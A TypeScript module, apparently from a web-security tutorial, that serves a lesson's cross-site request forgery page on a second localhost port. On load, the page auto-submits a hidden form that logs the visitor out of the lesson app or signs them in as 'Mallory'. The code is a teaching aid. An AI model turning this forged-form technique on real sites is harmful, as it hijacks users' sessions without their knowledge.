// Lesson 12's hostile page: what an attacker serves from another port of the same host.
import type { RequestListener } from 'node:http';
import { escapeHtml, page } from '../stage/pages.js';
import { type ListeningApp, listenApp, PortBusyError } from './start.js';

/** The port the attack page asks for first: the one after the tutor's usual 3000. */
export const attackPort = 3001;

/** What the page makes the visitor's browser send: a logout, or a sign-in as the attacker. */
export const forgedForms = {
  '/': { action: '/logout', fields: {}, what: 'logs you out' },
  '/signin': { action: '/setName', fields: { name: 'Mallory' }, what: 'signs you in as Mallory' },
} as const;

/**
 * A page that, as soon as it loads, submits a form to `target` (the stage, as the browser
 * addresses it). The browser does the rest: it sends whatever cookies it holds for the target.
 * Without JavaScript the form waits for its button. The button is not in <noscript>, whose
 * content axe-core never checks (nativelyHidden in axe-core's visibility-methods.js, 4.14).
 */
export function attackPageApp(target: string): RequestListener {
  return (req, res) => {
    const path = new URL(req.url ?? '/', 'http://attack.invalid').pathname;
    const forged = forgedForms[path as keyof typeof forgedForms];
    if (req.method !== 'GET' || forged === undefined) {
      res.writeHead(404, { 'content-type': 'text/plain; charset=utf-8' });
      res.end('This attack page has / (a logout) and /signin only.\n');
      return;
    }
    const fields = Object.entries(forged.fields)
      .map(([name, value]) => `<input type="hidden" name="${name}" value="${escapeHtml(value)}">`)
      .join('\n');
    const action = `${target}${forged.action}`;
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(
      page(
        'A page on another port',
        `<h1>Just another page</h1>
<p>This page (lesson 12's attacker) sends a form to <code>${escapeHtml(action)}</code> as it loads: it ${forged.what}.</p>
<form method="post" action="${escapeHtml(action)}">
${fields}
<button type="submit">Send the form</button>
</form>
<script>document.forms[0].submit()</script>`,
      ),
    );
  };
}

/**
 * Serves the attack page on port 3001 of `host`, or on a free port when 3001 is taken or
 * reserved; its `note` names its address either way. The caller owns stopping it.
 */
export async function startAttackPage(
  target: string,
  host = '127.0.0.1',
  port = attackPort,
): Promise<ListeningApp & { note: string }> {
  let served: ListeningApp;
  let busy = '';
  try {
    served = await listenApp(attackPageApp(target), { port, host });
  } catch (err) {
    if (!(err instanceof PortBusyError) || port === 0) throw err;
    served = await listenApp(attackPageApp(target), { port: 0, host });
    busy = `port ${port} ${err.reason}, so `;
  }
  return { ...served, note: `${busy}the attack page is at ${served.url}/` };
}
